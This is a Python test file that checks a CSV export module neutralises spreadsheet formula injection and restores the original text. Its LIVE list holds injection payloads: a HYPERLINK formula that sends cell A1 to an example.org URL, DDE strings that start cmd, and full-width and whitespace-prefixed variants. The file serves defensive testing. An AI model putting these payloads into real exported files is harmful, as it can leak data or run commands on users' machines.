"""No cell of an exported CSV runs as a formula; reading it back gives the text that was there."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cfhire.exchange.live_cells import STARTS, neutralised, restored

LIVE = (
    '=HYPERLINK("http://example.org/?"&A1,"Kim")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "-",
    "+49 170 555 0123",
    "-1+1",
)


@pytest.mark.parametrize("cell", LIVE)
def test_what_could_run_gets_an_apostrophe(cell: str) -> None:
    assert neutralised(cell) == "'" + cell
    assert restored("'" + cell) == cell


@pytest.mark.parametrize(
    "cell", ["-3.5", "+4", "-0,25", "-1e-3", "+12.5%", "=".replace("=", "4"), "'tis", "a=b", "", "'"]
)
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert neutralised(cell) == cell
    assert restored(cell) == cell


@settings(derandomize=True, deadline=None, max_examples=300)
@given(st.text(st.sampled_from([*STARTS, "'", "1", ".", ",", "a", " "]), max_size=6) | st.text())
def test_any_text_comes_back_and_never_starts_a_formula(cell: str) -> None:
    safe = neutralised(cell)
    assert restored(safe) == cell
    if safe[:1] and safe[0] in STARTS:
        float(safe.rstrip("%").replace(",", "."))
